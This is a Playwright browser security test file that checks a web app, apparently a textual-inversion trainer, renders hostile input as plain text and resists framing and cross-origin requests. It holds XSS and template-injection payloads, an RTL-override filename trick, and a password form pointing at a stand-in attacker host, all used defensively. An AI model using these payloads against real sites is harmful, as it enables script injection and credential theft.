"""Hostile text in every field a stranger can fill: nothing of it is ever run or fetched."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pytest
from playwright.sync_api import Browser, BrowserContext

from tests.browser.page_driver import PageDriver
from tests.photo_makers import drawn_photo
from tests.server import PetnameServer
from textinv_app.formats.embedding import write_embedding

pytestmark = [pytest.mark.browser, pytest.mark.timeout(900)]

MARK = "document.documentElement.dataset.pwn=1"
HOSTILE = (
    f'"><img src=x onerror="{MARK}">',
    f"<script>{MARK}</script>",
    f"<svg/onload={MARK}>",
    "<form action=https://evil.example><input name=password></form>",
    "![x](https://evil.example/x.png)",
    f"[x](javascript:{MARK})",
    f"${{{MARK}}}",
    f"{{{{{MARK}}}}}",
    f"'-({MARK})-'",
    "\u202egpj.txt\u202c<b>",
)


def assert_unharmed(driver: PageDriver, where: str) -> None:
    """Nothing ran, nothing was fetched from elsewhere, no form appeared."""
    page = driver.page
    assert page.get_attribute("html", "data-pwn") is None, where
    assert page.locator("form").count() == 0, where
    assert page.locator("[src*='evil.example'], [href*='evil.example']").count() == 0, where
    assert page.locator("a[href^='javascript:']").count() == 0, where
    assert [one for one in driver.problems if "another host" in one] == [], where


def upload_under(driver: PageDriver, picker: str, content: bytes, name: str) -> None:
    """Pick a file that goes by a hostile name."""
    file = {"name": name, "mimeType": "application/octet-stream", "buffer": content}
    driver.page.set_input_files(f"#{picker}", [file])  # type: ignore[list-item]
    driver.page.wait_for_selector("[data-batches] .pn-batch", state="detached")
    driver.settle()


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_is_only_ever_text(
    context: BrowserContext, server: PetnameServer, tmp_path: Path, hostile: str
) -> None:
    """As file name, name, class word, trigger word, prompt, model, imported name, in every tab."""
    driver = PageDriver(server, context.new_page()).open()
    photo = drawn_photo(tmp_path / "photo.jpg").read_bytes()
    upload_under(driver, "pn-upload-input", photo, f"{hostile}.jpg")
    upload_under(driver, "pn-upload-input", b"no picture", f"{hostile}.png")
    assert_unharmed(driver, "upload")
    for field_id in ("pn-name", "pn-class-word", "pn-word"):
        driver.page.fill(f"#{field_id}", hostile)
        driver.page.press(f"#{field_id}", "Tab")
        driver.settle()
        driver.page.wait_for_timeout(200)
        assert_unharmed(driver, field_id)
    file = tmp_path / "word.safetensors"
    metadata = {"modelspec.title": hostile, "ss_output_name": hostile, "name": hostile}
    write_embedding(file, {"text_encoder": np.full((1, 768), 0.01, np.float32)}, metadata)
    driver.go("manage")
    upload_under(driver, "pn-import-input", file.read_bytes(), f"{hostile}.safetensors")
    rename_first(driver, hostile)
    for tab in ("upload", "train", "compare", "manage"):
        driver.go(tab)
        assert_unharmed(driver, tab)
    driver.go("compare")
    if driver.page.locator("#pn-prompt").count():
        driver.page.fill("#pn-prompt", hostile)
        driver.page.click("#pn-draw")
        driver.settle()
        driver.page.wait_for_timeout(300)
        assert_unharmed(driver, "prompt")


def rename_first(driver: PageDriver, name: str) -> None:
    """Give the first file of the manage tab another name, where there is a file."""
    rename = driver.page.locator("#pn-manage-list [data-local=rename]").first
    if rename.count() == 0:
        return
    rename.click()
    driver.page.fill("#pn-rename-input", name[:60])
    driver.page.press("#pn-rename-input", "Enter")
    driver.settle()
    driver.page.wait_for_timeout(200)
    assert_unharmed(driver, "rename")


def test_another_site_cannot_frame_or_use_the_page(
    chromium: Browser, server: PetnameServer
) -> None:
    """A page from elsewhere gets neither a frame nor a request through."""
    context = chromium.new_context()
    page = context.new_page()
    page.route(
        "http://evil.example/",
        lambda route: route.fulfill(
            content_type="text/html", body=f"<iframe id=f src='{server.url}/'></iframe>"
        ),
    )
    page.goto("http://evil.example/")
    page.wait_for_timeout(1500)
    framed = [frame for frame in page.frames if frame.url.startswith(server.url)]
    assert not framed
    answer = page.evaluate(
        """url => fetch(url + '/gradio_api/queue/join', {method: 'POST', mode: 'no-cors',
          body: '{}'}).then(answer => answer.type, error => 'refused')""",
        server.url,
    )
    assert answer in {"opaque", "refused"}
    readable = page.evaluate(
        "url => fetch(url + '/').then(() => 'read', () => 'refused')", server.url
    )
    assert readable == "refused"
    context.close()
